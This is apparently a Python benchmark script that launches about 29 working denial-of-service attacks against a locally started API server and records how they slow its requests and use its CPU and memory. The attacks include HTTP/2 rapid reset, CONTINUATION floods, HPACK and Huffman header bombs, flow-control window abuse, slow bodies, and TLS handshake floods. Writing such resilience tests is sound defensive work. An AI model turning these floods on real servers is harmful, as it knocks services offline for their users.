"""Hostile clients, and what they do to the requests of another one.

    python bench/floods.py [name …] [--seconds 3] [--objects 10000]

Every attack is a function `async def name(host, port, ssl_context, seconds)`; some take `path` and
`headers` (credentials) as well, to get at answers that are not given to everybody. They use
sockets of their own, reconnect when they are thrown out, and return when the time is over.

Run as a program, a server is started; each attack runs in a process of its own while another
client gets one object after the other. Printed are the delays of these gets in milliseconds; the
most CPU time that the server spent during one of them (what held it up, whatever else the machine
had to do); and the server's memory before and after.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import inspect
import itertools
import multiprocessing
import os
import random
import ssl
import time
from collections.abc import Awaitable, Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING, Any

from target import Target
from target import load as load_target

from pykcp.wire.http2 import frames
from pykcp.wire.http2.huffman import code_table

if TYPE_CHECKING:
    from pykcp.testing.server import ServerProcess

Headers = Sequence[tuple[str, str]]
Attack = Callable[..., Awaitable[None]]

CONNECTIONS = 8
"""Of every attack that does not need more."""
_BATCH = 256 * 1024
"""Octets that an attack writes at a time."""
_WIDE = 2**31 - 1


# -- connections ---------------------------------------------------------------------------------


class Socket(asyncio.Protocol):
    """A connection on which anything may be written; what comes back is counted."""

    def __init__(self) -> None:
        self.received = 0
        self.heard = asyncio.Event()
        """The server has said something, or thrown us out."""
        self.closed = asyncio.Event()
        self._may_write = asyncio.Event()
        self._may_write.set()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport: asyncio.Transport = transport  # type: ignore[assignment]

    def data_received(self, data: bytes) -> None:
        self.received += len(data)
        self.heard.set()

    def pause_writing(self) -> None:
        self._may_write.clear()

    def resume_writing(self) -> None:
        self._may_write.set()

    def connection_lost(self, exc: Exception | None) -> None:
        self.closed.set()
        self.heard.set()
        self._may_write.set()

    async def write(self, data: bytes) -> None:
        """Raises ConnectionError when the server has thrown us out."""
        if self.closed.is_set() or self.transport.is_closing():
            raise ConnectionResetError
        self.transport.write(data)
        await self._may_write.wait()
        await asyncio.sleep(0)


def _context(given: ssl.SSLContext | None, protocol: str) -> ssl.SSLContext | None:
    """For an attack it does not matter who the server is."""
    if given is None:
        return None
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


class Flood:
    """Where to and for how long."""

    def __init__(
        self, host: str, port: int, context: ssl.SSLContext | None, seconds: float, protocol: str
    ) -> None:
        self._host, self._port = host, port
        self._context = _context(context, protocol)
        self._until = time.monotonic() + seconds

    @property
    def is_over(self) -> bool:
        return time.monotonic() >= self._until

    @property
    def left(self) -> float:
        return max(0.0, self._until - time.monotonic())

    async def connect(self) -> Socket:
        loop = asyncio.get_running_loop()
        _, socket = await loop.create_connection(Socket, self._host, self._port, ssl=self._context)
        return socket

    async def run(self, work: Callable[[Socket], Awaitable[None]], connections: int) -> None:
        """`work` on so many connections at a time, again and again."""

        async def one() -> None:
            while not self.is_over:
                try:
                    socket = await self.connect()
                except OSError:
                    await asyncio.sleep(0.01)
                    continue
                with contextlib.suppress(OSError):
                    await work(socket)
                socket.transport.abort()

        tasks = [asyncio.ensure_future(one()) for _ in range(connections)]
        await asyncio.wait(tasks, timeout=self.left + 0.2)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


# -- HTTP/2 --------------------------------------------------------------------------------------


def _string(text: str) -> bytes:
    octets = text.encode("latin-1")
    return _integer(len(octets), 7) + octets


def _integer(value: int, bits: int, flags: int = 0) -> bytes:
    mask = (1 << bits) - 1
    if value < mask:
        return bytes((flags | value,))
    octets = bytearray((flags | mask,))
    value -= mask
    while value >= 128:
        octets.append(128 | value & 127)
        value >>= 7
    return bytes((*octets, value))


def _block(method: str, path: str, headers: Headers = ()) -> bytes:
    """A header block that uses no table."""
    pseudo = ((":method", method), (":scheme", "https"), (":path", path), (":authority", "h"))
    return b"".join(b"\0" + _string(name) + _string(value) for name, value in (*pseudo, *headers))


def _headers(stream: int, block: bytes, ends: bool = True) -> bytes:
    return frames.frame(frames.HEADERS, 5 if ends else 4, stream, block)


def _greeting(window: int = frames.DEFAULT_WINDOW) -> bytes:
    greeting = frames.PREFACE + frames.settings({frames.SETTINGS_INITIAL_WINDOW_SIZE: window})
    if window > frames.DEFAULT_WINDOW:
        greeting += frames.window_update(0, _WIDE - frames.DEFAULT_WINDOW)
    return greeting


async def _repeat(
    where: tuple[Any, ...], batches: Callable[[], Any], window: int = frames.DEFAULT_WINDOW
) -> None:
    """Write what `batches()` gives, on HTTP/2, until thrown out."""
    flood = Flood(*where, "h2")

    async def work(socket: Socket) -> None:
        await socket.write(_greeting(window))
        for batch in batches():
            if flood.is_over:
                return
            await socket.write(batch)

    await flood.run(work, CONNECTIONS)


def _same(octets: bytes) -> Callable[[], Any]:
    batch = octets * max(1, _BATCH // len(octets))
    return lambda: itertools.repeat(batch)


async def rapid_reset(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """Requests that are broken off at once."""
    block = _block("GET", "/api/v1/namespaces/default/configmaps")

    def batches() -> Any:
        for first in itertools.count(1, 2000):
            yield b"".join(
                _headers(stream, block) + frames.reset(stream, frames.CANCEL)
                for stream in range(first, first + 2000, 2)
            )

    await _repeat((host, port, ssl_context, seconds), batches)


async def continuation_flood(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """A header block without an end, in empty pieces."""
    start = frames.frame(frames.HEADERS, 1, 1, _block("GET", "/"))
    piece = frames.frame(frames.CONTINUATION, 0, 1)

    def batches() -> Any:
        yield start
        yield from itertools.repeat(piece * (_BATCH // len(piece)))

    await _repeat((host, port, ssl_context, seconds), batches)


async def settings_flood(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    values = {frames.SETTINGS_INITIAL_WINDOW_SIZE: 100}
    one = frames.settings(values) + frames.settings({frames.SETTINGS_INITIAL_WINDOW_SIZE: 99})
    await _repeat((host, port, ssl_context, seconds), _same(one))


async def ping_flood(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    one = frames.frame(frames.PING, 0, 0, b"12345678")
    await _repeat((host, port, ssl_context, seconds), _same(one))


async def priority_flood(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    one = frames.frame(frames.PRIORITY, 0, 3, b"\0\0\0\1\1")
    await _repeat((host, port, ssl_context, seconds), _same(one))


async def window_update_flood(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """Increments that are no small ones, on a stream that is over."""
    start = _headers(1, _block("GET", "/readyz"))
    one = frames.window_update(1, 1000)

    def batches() -> Any:
        yield start
        yield from _same(one)()

    await _repeat((host, port, ssl_context, seconds), batches)


async def empty_data_flood(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    start = _headers(1, _block("POST", "/readyz"), ends=False)
    one = frames.frame(frames.DATA, 0, 1)

    def batches() -> Any:
        yield start
        yield from _same(one)()

    await _repeat((host, port, ssl_context, seconds), batches)


async def tiny_data_flood(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """Bodies of one octet a frame."""
    block = _block("POST", "/api/v1/namespaces/default/configmaps")
    one = frames.frame(frames.DATA, 0, 1, b"x")

    def batches() -> Any:
        yield _headers(1, block, ends=False)
        yield from _same(one)()

    await _repeat((host, port, ssl_context, seconds), batches)


async def reset_flood(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """RST_STREAM for a stream that is over."""
    start = _headers(1, _block("GET", "/readyz"))
    one = frames.reset(1, frames.CANCEL)

    def batches() -> Any:
        yield start
        yield from _same(one)()

    await _repeat((host, port, ssl_context, seconds), batches)


async def stray_data_flood(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """DATA for streams that are over: each is answered with a reset."""
    block = _block("GET", "/readyz")

    def batches() -> Any:
        for first in itertools.count(1, 1000):
            streams = range(first, first + 1000, 2)
            yield b"".join(_headers(stream, block) for stream in streams)
            yield b"".join(frames.frame(frames.DATA, 0, stream) for stream in streams)

    await _repeat((host, port, ssl_context, seconds), batches)


async def get_flood(
    host: str, port: int, ssl_context: Any, seconds: float, path: str = "/readyz",
    headers: Headers = (),
) -> None:  # fmt: skip
    """As many good requests as the server takes."""
    block = _block("GET", path, headers)

    def batches() -> Any:
        for first in itertools.count(1, 500):
            yield b"".join(_headers(stream, block) for stream in range(first, first + 500, 2))

    await _repeat((host, port, ssl_context, seconds), batches, _WIDE)


def _long_block(stream: int, block: bytes, ends: bool = True) -> bytes:
    """A block in as many frames as it takes."""
    step = frames.MIN_MAX_FRAME
    pieces = [block[at : at + step] for at in range(0, len(block), step)]
    out = []
    for index, piece in enumerate(pieces):
        flags = frames.END_HEADERS if index == len(pieces) - 1 else 0
        kind = frames.CONTINUATION if index else frames.HEADERS
        if not index and ends:
            flags |= frames.END_STREAM
        out.append(frames.frame(kind, flags, stream, piece))
    return b"".join(out)


async def _blocks(where: tuple[Any, ...], make: Callable[[], bytes]) -> None:
    block = _block("GET", "/readyz") + make()

    def batches() -> Any:
        for stream in itertools.count(1, 2):
            yield _long_block(stream, block)

    await _repeat(where, batches)


async def header_bomb(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """One octet a field: a small field of the table, thousands of times."""
    await _blocks(
        (host, port, ssl_context, seconds),
        lambda: b"\x40" + _string("a") + _string("b") + b"\xbe" * 30_000,
    )


async def table_bomb(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """One octet a field: the largest field that the table holds."""
    await _blocks(
        (host, port, ssl_context, seconds),
        lambda: b"\x40" + _string("a") + _string("b" * 4000) + b"\xbe" * 16_000,
    )


async def small_headers(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """Thousands of fields, each new to the table."""
    await _blocks(
        (host, port, ssl_context, seconds),
        lambda: b"".join(
            b"\x40" + _string(f"x{number:x}") + _string("") for number in range(28_000)
        ),
    )


def _huffman(size: int) -> bytes:
    """So many octets of text that nobody has seen before."""
    table = code_table()
    bits, count, out = 0, 0, bytearray()
    for octet in random.choices(b"!#$&'*+-.^_`|~0123456789abcdefXYZ<>@[]", k=size):
        code, length = table[octet]
        bits, count = bits << length | code, count + length
        while count >= 8:
            count -= 8
            out.append(bits >> count & 255)
            bits &= (1 << count) - 1
    if count:
        out.append((bits << (8 - count) | (1 << (8 - count)) - 1) & 255)
    return bytes(out)


async def huffman_bomb(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """A header of 700 KB, coded."""
    coded = _huffman(700_000)
    await _blocks(
        (host, port, ssl_context, seconds),
        lambda: b"\0" + _string("x") + _integer(len(coded), 7, 0x80) + coded,
    )


async def _windows(
    where: tuple[Any, ...],
    path: str,
    headers: Headers,
    widen: Callable[[Socket, Sequence[int]], Awaitable[None]],
    connections: int = CONNECTIONS,
    streams: int = 100,
) -> None:
    flood = Flood(*where, "h2")
    block = _block("GET", path, headers)
    ids = range(1, 2 * streams, 2)

    async def work(socket: Socket) -> None:
        await socket.write(_greeting(0) + b"".join(_headers(stream, block) for stream in ids))
        while not flood.is_over:
            await widen(socket, ids)

    await flood.run(work, connections)


async def zero_windows(
    host: str, port: int, ssl_context: Any, seconds: float, path: str = "/readyz",
    headers: Headers = (),
) -> None:  # fmt: skip
    """Answers that are never taken."""

    async def widen(socket: Socket, _ids: Sequence[int]) -> None:
        await asyncio.wait_for(socket.closed.wait(), seconds)

    await _windows((host, port, ssl_context, seconds), path, headers, widen)


async def tiny_windows(
    host: str, port: int, ssl_context: Any, seconds: float, path: str = "/readyz",
    headers: Headers = (),
) -> None:  # fmt: skip
    """Answers that are taken one octet at a time, as fast as that goes."""

    async def widen(socket: Socket, ids: Sequence[int]) -> None:
        await socket.write(b"".join(frames.window_update(stream, 1) for stream in ids))

    await _windows((host, port, ssl_context, seconds), path, headers, widen)


async def trickled_windows(
    host: str, port: int, ssl_context: Any, seconds: float, path: str = "/readyz",
    headers: Headers = (),
) -> None:  # fmt: skip
    """Answers that are taken one octet a second, below every limit on frames."""

    async def widen(socket: Socket, ids: Sequence[int]) -> None:
        await socket.write(b"".join(frames.window_update(stream, 1) for stream in ids))
        await asyncio.sleep(1)

    await _windows((host, port, ssl_context, seconds), path, headers, widen)


async def slow_readers(
    host: str, port: int, ssl_context: Any, seconds: float, path: str = "/readyz",
    headers: Headers = (), readers: int = 100,
) -> None:  # fmt: skip
    """One list per connection, whose client opens all windows and does not read its socket."""
    flood = Flood(host, port, ssl_context, seconds, "h2")

    async def work(socket: Socket) -> None:
        await socket.write(_greeting(_WIDE) + _headers(1, _block("GET", path, headers)))
        await socket.heard.wait()
        socket.transport.pause_reading()
        while not flood.is_over:
            await asyncio.sleep(0.5)
            socket.transport.resume_reading()
            await asyncio.sleep(0)
            socket.transport.pause_reading()

    await flood.run(work, readers)


async def slow_bodies(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """Large bodies without credentials, all but their last octets."""
    flood = Flood(host, port, ssl_context, seconds, "h2")
    block = _block(
        "POST",
        "/api/v1/namespaces/default/configmaps",
        [("content-type", "application/json"), ("content-length", "3000000")],
    )
    data = b"".join(frames.frame(frames.DATA, 0, 1, b"x" * 16384) for _ in range(4))

    async def work(socket: Socket) -> None:
        ids = range(1, 65, 2)
        await socket.write(_greeting() + b"".join(_headers(s, block, ends=False) for s in ids))
        for _ in range(45):
            for stream in ids:
                piece = data.replace(b"\0\0\0\1", stream.to_bytes(4, "big"))
                await socket.write(piece)
        await asyncio.wait_for(socket.closed.wait(), max(0.01, flood.left))

    await flood.run(work, 16)


# -- HTTP/1.1 ------------------------------------------------------------------------------------


async def _http1(where: tuple[Any, ...], start: bytes, rest: bytes) -> None:
    flood = Flood(*where, "http/1.1")
    batch = rest * max(1, _BATCH // len(rest))

    async def work(socket: Socket) -> None:
        await socket.write(start)
        while not flood.is_over:
            await socket.write(batch)

    await flood.run(work, CONNECTIONS)


async def pipelining(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    await _http1(
        (host, port, ssl_context, seconds), b"", b"GET /readyz HTTP/1.1\r\nHost: h\r\n\r\n"
    )


async def tiny_chunks(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """Bodies in chunks of one octet."""
    start = (
        b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: h\r\n"
        b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    await _http1((host, port, ssl_context, seconds), start, b"1\r\nx\r\n")


async def trailers(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """A body of nothing with trailers that do not end."""
    start = b"POST /readyz HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
    await _http1((host, port, ssl_context, seconds), start, b"x: y\r\n")


async def head_of_many_headers(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    await _http1(
        (host, port, ssl_context, seconds), b"GET /readyz HTTP/1.1\r\nHost: h\r\n", b"x:\r\n"
    )


async def websocket_flood(
    host: str, port: int, ssl_context: Any, seconds: float,
    path: str = "/api/v1/namespaces/default/configmaps?watch=true", headers: Headers = (),
) -> None:  # fmt: skip
    """Pings and messages on WebSockets, where a watch is followed by one."""
    lines = "".join(f"{name}: {value}\r\n" for name, value in headers)
    start = (
        f"GET {path} HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n{lines}\r\n"
    )
    ping, empty = b"\x89\x80\0\0\0\0", b"\x82\x80\0\0\0\0"
    await _http1((host, port, ssl_context, seconds), start.encode(), ping + empty)


# -- TLS and TCP ---------------------------------------------------------------------------------


async def tiny_records(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """TLS records of one octet each."""
    flood = Flood(host, port, ssl_context, seconds, "h2")
    request = b"GET / HTTP/1.1\r\nHost: h\r\nx: " if ssl_context is None else b""

    async def work(socket: Socket) -> None:
        greeting = request or _greeting() + frames.HEADER.pack(16384 << 8 | 0x20, 0, 1)
        await socket.write(greeting)
        while not flood.is_over:
            for _ in range(200):
                socket.transport.write(b"x")
            await socket.write(b"x")

    await flood.run(work, CONNECTIONS)


async def handshakes(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """TLS handshakes and nothing else."""
    flood = Flood(host, port, ssl_context, seconds, "h2")

    async def work(_socket: Socket) -> None:
        return

    await flood.run(work, 64)


async def connects(host: str, port: int, _ssl_context: Any, seconds: float) -> None:
    """TCP connections on which nothing is said."""
    flood = Flood(host, port, None, seconds, "")
    opened: list[Socket] = []

    async def work(_socket: Socket) -> None:
        opened.extend([await flood.connect() for _ in range(200)])
        for socket in opened:
            socket.transport.abort()
        opened.clear()

    await flood.run(work, 4)


async def half_handshakes(host: str, port: int, ssl_context: Any, seconds: float) -> None:
    """Client hellos, all that a server works for before it learns anything of the client."""
    flood = Flood(host, port, None, seconds, "")
    context = _context(ssl_context or ssl.create_default_context(), "h2")
    assert context is not None
    outgoing = ssl.MemoryBIO()
    session = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        session.do_handshake()
    hello = outgoing.read()

    async def work(socket: Socket) -> None:
        await socket.write(hello)
        await socket.heard.wait()

    await flood.run(work, 64)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, continuation_flood, settings_flood, ping_flood, priority_flood,
        window_update_flood, empty_data_flood, tiny_data_flood, reset_flood, stray_data_flood,
        get_flood, header_bomb, table_bomb, small_headers, huffman_bomb, zero_windows,
        tiny_windows, trickled_windows, slow_readers, slow_bodies, pipelining, tiny_chunks,
        trailers, head_of_many_headers, websocket_flood, tiny_records, handshakes, connects,
        half_handshakes,
    )
}  # fmt: skip
WITH_PATH = frozenset(
    name for name, attack in ATTACKS.items() if "path" in inspect.signature(attack).parameters
)
"""Attacks that want `path` and `headers` of an answer that is worth attacking."""


# -- the program ---------------------------------------------------------------------------------

CM = "/api/v1/namespaces/default/configmaps"


def main() -> None:
    from pykcp.testing.server import server as run_server

    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("names", nargs="*", help="attacks; all of them if none is named")
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--objects", type=int, default=10_000)
    parser.add_argument("--settle", type=float, default=7.0, help="seconds until memory is read")
    parser.add_argument("--flag", action="append", default=[], help="a flag of the server")
    options = parser.parse_args()
    with run_server(*options.flag) as server:
        _prepare(server, options.objects)
        target = load_target(str(server.kubeconfig), "shard-base", "root", str(server.pid))
        print(
            f"{'attack':22} {'gets':>6} {'p50':>8} {'p99':>8} {'longest':>8} {'held':>8}   memory MiB, CPU"
        )
        _report("(nothing)", target, asyncio.run(_gets(target, options.seconds)), (0, 0))
        for name in options.names or ATTACKS:
            _measure(name, target, str(server.kubeconfig), options.seconds, options.settle)


def _prepare(server: ServerProcess, count: int) -> None:
    client = server.client(cluster="root")
    data = {"text": "x" * 1400}
    with ThreadPoolExecutor(8) as threads:
        bodies = ({"metadata": {"name": f"m{n}"}, "data": data} for n in range(count))
        for reply in threads.map(lambda body: client.post(CM, body), bodies):
            assert reply.status == 201, reply
    assert client.post(CM, {"metadata": {"name": "one"}, "data": data}).status == 201


def _measure(name: str, target: Target, kubeconfig: str, seconds: float, settle: float) -> None:
    before = target.memory(), target.cpu()
    spawn = multiprocessing.get_context("spawn")
    attack = spawn.Process(target=_attack_process, args=(name, kubeconfig, seconds + 1))
    attack.start()
    time.sleep(0.7)
    delays = asyncio.run(_gets(target, seconds))
    attack.join(seconds + 10)
    if attack.is_alive():
        attack.kill()
    time.sleep(settle)
    _report(name, target, delays, before)


def _attack_process(name: str, kubeconfig: str, seconds: float) -> None:
    os.nice(5)
    target = load_target(kubeconfig, "shard-base", "root")
    arguments: dict[str, Any] = {}
    if name in WITH_PATH and name != "websocket_flood":
        arguments["path"] = target.prefix + CM
    if name in WITH_PATH:
        arguments["headers"] = [("authorization", f"Bearer {target.token}")]
    if name == "get_flood":
        arguments["path"] += "/one"
    asyncio.run(ATTACKS[name](target.host, target.port, target.context, seconds, **arguments))


async def _gets(target: Target, seconds: float) -> list[tuple[float, float]]:
    """How long each get took, and how much CPU time the server spent meanwhile."""
    connection = await target.connect()
    clock = ~target.pids[0] << 3 | 2  # of the server's process; see clock_getcpuclockid(3)
    delays: list[tuple[float, float]] = []
    until = time.perf_counter() + seconds
    while (began := time.perf_counter()) < until:
        spent = time.clock_gettime(clock)
        reply = await connection.request("GET", f"{target.prefix}{CM}/one")
        delays.append((time.perf_counter() - began, time.clock_gettime(clock) - spent))
        assert reply.status == 200, reply.status
        await asyncio.sleep(0.002)
    connection.close()
    return delays


def _report(
    name: str, target: Target, gets: list[tuple[float, float]], before: tuple[float, float]
) -> None:
    delays = sorted(delay for delay, _ in gets)
    held = max(spent for _, spent in gets) * 1000
    p50, p99, longest = (delays[int(p * (len(delays) - 1))] * 1000 for p in (0.5, 0.99, 1))
    memory, cpu = before
    used = f"{memory:.0f} → {target.memory():.0f}, {target.cpu() - cpu:.1f} s"
    shown = f"{p50:8.1f} {p99:8.1f} {longest:8.1f} {held:8.1f}"
    print(f"{name:22} {len(delays):6} {shown}   {used}", flush=True)


if __name__ == "__main__":
    main()
